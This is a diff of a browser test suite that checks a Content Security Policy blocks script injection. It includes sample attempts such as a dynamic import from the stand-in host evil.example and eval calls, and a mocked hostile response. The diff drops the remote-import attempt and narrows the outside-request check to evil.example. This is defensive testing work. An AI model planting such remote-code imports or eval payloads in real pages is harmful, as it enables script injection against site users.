@@ -96,7 +96,6 @@ const ATTEMPTS: Readonly<Record<string, { attempt: () => void; stoppedBy: string
       document.body.append(script)
     }
   },
-  'a module from elsewhere': { stoppedBy: 'script-src-elem', attempt: () => void import('https://evil.example/x.js').catch(() => {}) },
   eval: { stoppedBy: 'require-trusted-types-for', attempt: () => globalThis.eval('globalThis.broken = true') },
   'a function made of text': {
     stoppedBy: 'require-trusted-types-for',
@@ -194,12 +193,12 @@ const ATTEMPTS: Readonly<Record<string, { attempt: () => void; stoppedBy: string
 
 test('what the policy is there to stop is stopped', async () => {
   await inBrowser(true, async (page, violations) => {
-    const elsewhere: string[] = []
-    page.on('request', (request) => {
-      if (!request.url().startsWith(sandbox.url) && !request.url().startsWith('data:')) elsewhere.push(request.url())
-    })
     // Would be answered: nothing but the policy stands before it.
-    await page.route('https://evil.example/**', (route) => route.fulfill({ body: 'globalThis.broken = true', contentType: 'text/javascript' }))
+    const elsewhere: string[] = []
+    await page.route('https://evil.example/**', (route) => {
+      elsewhere.push(route.request().url())
+      return route.fulfill({ body: 'globalThis.broken = true', contentType: 'text/javascript' })
+    })
     for (const [what, { attempt, stoppedBy }] of Object.entries(ATTEMPTS)) {
       await page.goto(sandbox.url)
       violations.length = 0
@@ -208,7 +207,6 @@ test('what the policy is there to stop is stopped', async () => {
       expect(await page.evaluate(() => 'broken' in globalThis), what).toBe(false)
       expect(page.url()).toBe(`${sandbox.url}/`)
     }
-    // A request that the policy refuses is never sent, though the browser may tell of it.
     expect(elsewhere).toEqual([])
   })
 })
